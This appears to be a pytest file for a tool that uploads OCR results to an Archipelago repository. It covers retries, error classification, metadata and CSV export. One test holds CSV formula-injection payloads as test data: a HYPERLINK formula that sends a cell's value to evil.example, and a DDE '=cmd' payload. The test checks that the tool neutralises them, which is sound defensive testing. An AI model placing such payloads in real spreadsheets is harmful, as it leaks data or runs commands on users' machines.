"""The uploader's pure parts: reading Archipelago's answers, the objects' JSON, AMI rows, outcomes."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta

import pytest

from bulkocr.ami import ami_csv, ami_rows, collection_uuid, object_uuid, output_filename
from bulkocr.contracts import PushOptions
from bulkocr_gateway.views import archipelago_view
from bulkocr_uploader.archipelago import (
    AccessDenied,
    Answer,
    Conflict,
    Rejected,
    RetryPolicy,
    Unavailable,
    error_detail,
    refusal,
    retry_after_s,
)
from bulkocr_uploader.metadata import document_metadata, language_iso639_3, node_attributes, title_of
from bulkocr_uploader.outcomes import Outcome, summarize
from bulkocr_uploader.settings import UploaderSettings
from tests.fakes.archipelago import error_document, nginx_page


def test_retry_after_reads_seconds_and_http_dates():
    """Retry-After is either whole seconds or an HTTP-date; a date in the past means now."""
    now = datetime(2026, 1, 1, 12, 0, 0, tzinfo=UTC)
    assert retry_after_s("7", now=now) == 7.0
    assert retry_after_s("Thu, 01 Jan 2026 12:00:05 GMT", now=now) == 5.0
    assert retry_after_s("Thu, 01 Jan 2026 11:00:00 GMT", now=now) == 0.0
    assert retry_after_s("soon", now=now) is None
    assert retry_after_s(None) is None


def test_backoff_doubles_from_the_base_up_to_the_cap():
    """The default policy waits 5, 10, 20 s between its 3 retries."""
    policy = RetryPolicy()
    assert [policy.backoff(n) for n in range(4)] == [5.0, 10.0, 20.0, 40.0]
    assert RetryPolicy(backoff_base_s=5, backoff_max_s=12).backoff(3) == 12.0


def test_answers_are_classified_by_status_whatever_the_body():
    """401/403 stop everything, 409 is a conflict, 413 (an nginx HTML page) and 422 reject
    the document with a readable reason, 5xx and 429 are worth another try."""
    html_413 = Answer(413, {"Content-Type": "text/html"}, nginx_page(413).encode())
    assert error_detail(html_413) == "413 Request Entity Too Large"
    rejected = refusal("POST", "/jsonapi/node/digital_object/field_file_drop", html_413)
    assert isinstance(rejected, Rejected)
    assert "larger than Archipelago accepts (413 at POST" in str(rejected)
    assert str(rejected).endswith(": 413 Request Entity Too Large)")
    detail = "Unprocessable Entity: validation failed.\ntitle: This value should not be null."
    unprocessable = Answer(422, {}, json.dumps(error_document(422, detail, "")).encode())
    assert "title: This value should not be null." in str(refusal("POST", "/x", unprocessable))
    assert isinstance(refusal("GET", "/x", Answer(401, {}, b"")), AccessDenied)
    assert isinstance(refusal("GET", "/x", Answer(403, {}, b"")), AccessDenied)
    assert isinstance(refusal("POST", "/x", Answer(409, {}, b"{}")), Conflict)
    for status in (429, 500, 502, 503, 504):
        assert isinstance(refusal("POST", "/x", Answer(status, {}, nginx_page(502).encode())), Unavailable)


def test_document_metadata_lists_integer_file_ids_under_mapped_keys():
    """The object's JSON: file ids as JSON integers under keys named in ap:entitymapping,
    membership of the collection by its nid, the language as ISO 639-3, the title cut to 255."""
    document = {"job_id": "j", "doc_id": "d0001", "filename": "a.pdf", "pages": 3, "sha256": "ab"}
    metadata = document_metadata(
        document,
        label="a.pdf",
        collection_nid=812,
        files={"pdf": 4711, "txt": 4712},
        options=PushOptions(),
        language="en",
    )
    assert metadata["documents"] == [4711]
    assert metadata["texts"] == [4712]
    assert metadata["ismemberof"] == [812]
    assert set(metadata["ap:entitymapping"]["entity:file"]) == {"documents", "texts"}
    assert metadata["language_iso639_3"] == "eng"
    attributes = node_attributes(metadata, PushOptions(moderation_state="draft"))
    assert json.loads(attributes["field_descriptive_metadata"]) == metadata
    assert attributes["moderation_state"] == "draft"
    assert len(title_of("x" * 300)) == 255
    assert language_iso639_3("deu") == "deu"
    assert language_iso639_3("rus,eng") == "rus"
    assert language_iso639_3("xx") is None


def test_object_ids_are_stable_and_names_are_plain_ascii():
    """The same (job, document) always gives the same UUID; file names lose what Drupal's
    Content-Disposition parser cannot take."""
    assert object_uuid("job", "d0001") == object_uuid("job", "d0001") != object_uuid("job", "d0002")
    assert collection_uuid("job") != object_uuid("job", "d0001")
    assert output_filename("d0001", "scans/Minutes \u00e9t\u00e9 1921.PDF", "pdf") == "d0001-Minutes_t_1921.pdf"
    assert output_filename("d0002", '"".pdf', "txt") == "d0002.txt"


def test_ami_rows_list_pushable_documents_as_members_of_the_collection():
    """Documents without text are left out; the collection comes first only when asked."""
    documents = [
        {"doc_id": "d0001", "filename": "a.pdf", "status": "completed"},
        {"doc_id": "d0002", "filename": "b.pdf", "status": "failed"},
    ]
    rows = ami_rows("job", documents, PushOptions(text=False), include_collection=True)
    parsed = list(csv.DictReader(io.StringIO(ami_csv(rows))))
    assert [(r["type"], r["node_uuid"]) for r in parsed] == [
        ("Collection", collection_uuid("job")),
        ("Book", object_uuid("job", "d0001")),
    ]
    assert parsed[1]["ismemberof"] == collection_uuid("job")
    assert parsed[1]["documents"] == "d0001-a.pdf"
    assert parsed[1]["texts"] == ""


def test_ami_spreadsheet_cells_never_run_as_formulas():
    """A file name or label beginning with =, +, -, @, a tab or a carriage return is written
    with a leading quote, so a spreadsheet shows it instead of running it, and a line break
    inside one cannot start a row; the UUIDs, ids and file names Archipelago reads stay
    exactly as they were, and other text is untouched."""
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open").pdf', "+1+1.pdf", "-2+3.pdf", "@SUM(A1).pdf"]
    hostile += ["\tx.pdf", "\rx.pdf"]
    names = [*hostile, "plain=name.pdf", "'already quoted.pdf", "minutes\r=HYPERLINK(A1).pdf", "two\nlines.pdf"]
    documents = [
        {"doc_id": f"d{n:04d}", "filename": name, "status": "completed"} for n, name in enumerate(names, start=1)
    ]
    options = PushOptions(label="=cmd|' /C calc'!A0", ado_type="@Book")
    text = ami_csv(ami_rows("job", documents, options, include_collection=True))
    collection, *objects = csv.DictReader(io.StringIO(text))
    assert collection["label"] == "'=cmd|' /C calc'!A0"
    # A line break inside a name stays in its cell: no row begins at the "=" after it.
    assert [row["label"] for row in objects] == [f"'{name}" for name in hostile] + names[len(hostile) :]
    assert {row["type"] for row in objects} == {"'@Book"}
    for row, document in zip(objects, documents, strict=True):
        doc_id = document["doc_id"]
        assert row["node_uuid"] == object_uuid("job", doc_id)
        assert row["ismemberof"] == collection_uuid("job")
        assert row["documents"] == output_filename(doc_id, document["filename"], "pdf")
        assert row["texts"] == output_filename(doc_id, document["filename"], "txt")
        assert row["documents"].startswith(doc_id)
        assert row["bulkocr_doc_id"] == doc_id


@pytest.mark.parametrize(
    ("states", "status", "retry"),
    [
        (["completed", "completed"], "completed", False),
        (["completed", "failed"], "partial", False),
        (["failed", "failed!"], "failed", True),
    ],
)
def test_a_push_is_completed_partial_or_failed_by_its_documents(states, status, retry):
    """All through: completed; some: partial; none: failed. A transient failure asks for a retry."""
    outcomes = [
        Outcome(f"d{n}", "failed" if s.startswith("failed") else "completed", "boom", s.endswith("!"))
        for n, s in enumerate(states)
    ]
    summary = summarize(outcomes)
    assert (summary.status, summary.retry) == (status, retry)


def test_status_says_queued_until_the_uploader_serves_the_latest_request():
    """A request the uploader has not begun shows as queued, even over a finished earlier run."""
    asked = {"request_id": "r2", "requested_at": datetime.now(UTC), "options": {}}
    earlier = {"request_id": "r1", "status": "completed", "attempts": 1, "started_at": datetime.now(UTC)}
    assert archipelago_view(None, None, []) is None
    view = archipelago_view(asked, None, [])
    assert view is not None
    assert view.status == "queued"
    view = archipelago_view(asked, earlier, [])
    assert view is not None
    assert view.status == "queued"
    serving = {**earlier, "request_id": "r2", "status": "uploading"}
    view = archipelago_view(asked, serving, [{"doc_id": "d1", "uuid": "u", "url": "x/do/u", "state": "failed"}])
    assert view is not None
    assert (view.status, view.documents.failed, view.documents.total) == ("uploading", 1, 1)


def test_the_password_never_shows_in_the_settings():
    """The settings' repr (which may be logged) holds no password."""
    settings = UploaderSettings(url="https://repo", user="jsonapi", password="hunter2")  # type: ignore[arg-type]
    assert "hunter2" not in repr(settings)
    assert "hunter2" not in str(settings.model_dump())
    assert settings.password.get_secret_value() == "hunter2"
    assert timedelta(seconds=settings.file_max_age_s) < timedelta(hours=6)
